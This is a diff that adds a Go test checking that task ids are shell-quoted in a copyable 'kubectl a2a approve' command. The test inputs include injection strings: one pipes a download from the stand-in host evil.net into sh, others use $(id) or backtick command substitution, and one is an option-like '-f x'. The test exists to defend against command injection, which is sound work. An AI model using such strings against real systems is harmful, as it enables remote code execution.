@@ -86,3 +86,21 @@ func TestLongCallsAreNotShown(t *testing.T) {
 		}
 	}
 }
+
+// TestTheCommandQuotesTheTask checks the command that a person copies. Whoever wrote the link chose the id of the task.
+func TestTheCommandQuotesTheTask(t *testing.T) {
+	for task, want := range map[string]string{
+		"01a2281f-c46d":      "kubectl a2a approve team/cleaner 01a2281f-c46d",
+		"t;curl evil.net|sh": "kubectl a2a approve team/cleaner 't;curl evil.net|sh'",
+		"$(id)'`id`":         `kubectl a2a approve team/cleaner '$(id)'\''` + "`id`'",
+		"-f x":               "kubectl a2a approve team/cleaner -- '-f x'",
+	} {
+		r := httptest.NewRequestWithContext(t.Context(), http.MethodGet, "/", http.NoBody)
+		r.SetPathValue("namespace", "team")
+		r.SetPathValue("name", "cleaner")
+		r.SetPathValue("task", task)
+		if got := (&Server{}).approval(r, "").Command; got != want {
+			t.Errorf("the command for the task %q is %s, want %s", task, got, want)
+		}
+	}
+}
